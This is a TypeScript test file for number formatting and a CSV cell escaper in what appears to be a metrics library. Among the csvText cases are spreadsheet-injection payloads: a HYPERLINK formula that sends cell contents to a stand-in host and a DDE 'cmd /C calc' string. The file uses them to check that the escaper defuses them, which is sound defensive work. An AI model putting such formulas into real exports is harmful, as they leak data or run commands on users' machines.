import {
  Column,
  JSON_NON_FINITE,
  MetricType,
  OPEN_METRICS_NON_FINITE,
  csvText,
  formatColumnNumber,
  formatDouble,
  formatFloat,
} from '../../../src/pmapi/index.js';
import fc from '../../support/properties.js';

const anyFloat = fc.float({ noNaN: true, noDefaultInfinity: true });

describe('formatFloat', () => {
  it.each([
    [0, '0'],
    [1, '1'],
    [-16_777_216, '-16777216'],
    [1.5, '1.5'],
    [Math.fround(0.1), '0.1'],
    [Math.fround(0.06), '0.06'],
    [Math.fround(1 / 3), '0.33333334'],
    [Math.fround(16_777_217.5), '16777218'],
    [Math.fround(1e10), '10000000000'],
    [Math.fround(3.4028234e38), '3.4028235e+38'],
    [Math.fround(1.4e-45), '1e-45'],
    [Math.fround(1.1754942e-38), '1.1754942e-38'],
  ])('writes %d as %j', (value, text) => {
    expect(formatFloat(value, JSON_NON_FINITE)).toBe(text);
  });

  it('reads back as the same float, in no more digits than needed', () => {
    fc.assert(
      fc.property(anyFloat, (value) => {
        const text = formatFloat(value, JSON_NON_FINITE);
        expect(Math.fround(Number(text)) === value).toBe(true);
        const digits = (JSON.parse(text) as number).toExponential().replace(/e.*$|[-.]/g, '').length;
        if (digits > 1) {
          const shorter = Number(value.toPrecision(digits - 1));
          expect(Math.fround(shorter) === value).toBe(false);
        }
      }),
      { numRuns: 500 },
    );
  });
});

describe('formatDouble', () => {
  it('reads back as the same double', () => {
    fc.assert(
      fc.property(fc.double({ noNaN: true, noDefaultInfinity: true }), (value) => {
        expect(Number(formatDouble(value, JSON_NON_FINITE)) === value).toBe(true);
      }),
    );
  });
});

describe('the texts of numbers that are none', () => {
  it.each([
    [NaN, 'null', 'NaN'],
    [Infinity, 'null', '+Inf'],
    [-Infinity, 'null', '-Inf'],
  ])('of %d are %s and %s', (value, json, openMetrics) => {
    for (const format of [formatFloat, formatDouble]) {
      expect(format(value, JSON_NON_FINITE)).toBe(json);
      expect(format(value, OPEN_METRICS_NON_FINITE)).toBe(openMetrics);
    }
  });
});

describe('formatColumnNumber', () => {
  it('writes integers with every digit, whichever lane they are in', () => {
    const integer = fc.bigInt({ min: -(2n ** 63n), max: 2n ** 63n - 1n });
    const small = fc.bigInt({ min: -1000n, max: 1000n });
    fc.assert(
      fc.property(fc.array(fc.oneof(small, integer)), (values) => {
        const column = new Column();
        column.reset(MetricType.I64);
        for (const value of values) column.pushInteger(value);
        expect(values.map((_, i) => formatColumnNumber(column, i, JSON_NON_FINITE))).toEqual(values.map(String));
      }),
    );
  });

  it('writes U64 without sign, FLOAT as float and DOUBLE as double', () => {
    const column = new Column();
    column.reset(MetricType.U64);
    column.pushInteger(2n ** 64n - 1n);
    expect(formatColumnNumber(column, 0, JSON_NON_FINITE)).toBe('18446744073709551615');
    column.reset(MetricType.FLOAT);
    column.pushNumber(Math.fround(0.1));
    expect(formatColumnNumber(column, 0, JSON_NON_FINITE)).toBe('0.1');
    column.reset(MetricType.DOUBLE);
    column.pushNumber(Math.fround(0.1));
    expect(formatColumnNumber(column, 0, JSON_NON_FINITE)).toBe('0.10000000149011612');
    column.reset(MetricType.U32);
    column.pushNumber(4_294_967_295);
    expect(formatColumnNumber(column, 0, JSON_NON_FINITE)).toBe('4294967295');
  });
});

/** What a reader of CSV makes of a cell. */
const unquote = (cell: string): string => (cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell);

describe('csvText', () => {
  it.each([
    ['plain', 'plain'],
    ['a, "b"', '"a, ""b"""'],
    ['=HYPERLINK("http://evil.example?"&A1,"x")', '"\'=HYPERLINK(""http://evil.example?""&A1,""x"")"'],
    ["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
    ['+1+1', "'+1+1"],
    ['-bash', "'-bash"],
    ['\t=1', "'\t=1"],
    ['\r=1', '"\'\r=1"'],
    ['＝1', "'＝1"],
    ['a=1', 'a=1'],
    ['-12', '-12'],
    ['+1.5e-7', '+1.5e-7'],
    ['-Infinity', '-Infinity'],
    ['-', "'-"],
    ['', ''],
  ])('writes %j as %s', (text, cell) => expect(csvText(text)).toBe(cell));

  it('is read back as the text, with nothing that could be a formula', () => {
    fc.assert(
      fc.property(
        fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '"', ',', "'", '1', '.', 'a') }),
        (text) => {
          const read = unquote(csvText(text));
          expect([text, `'${text}`]).toContain(read);
          if (!Number.isFinite(Number(read))) expect(read).not.toMatch(/^[=+@\t\r-]/);
        },
      ),
    );
  });
});
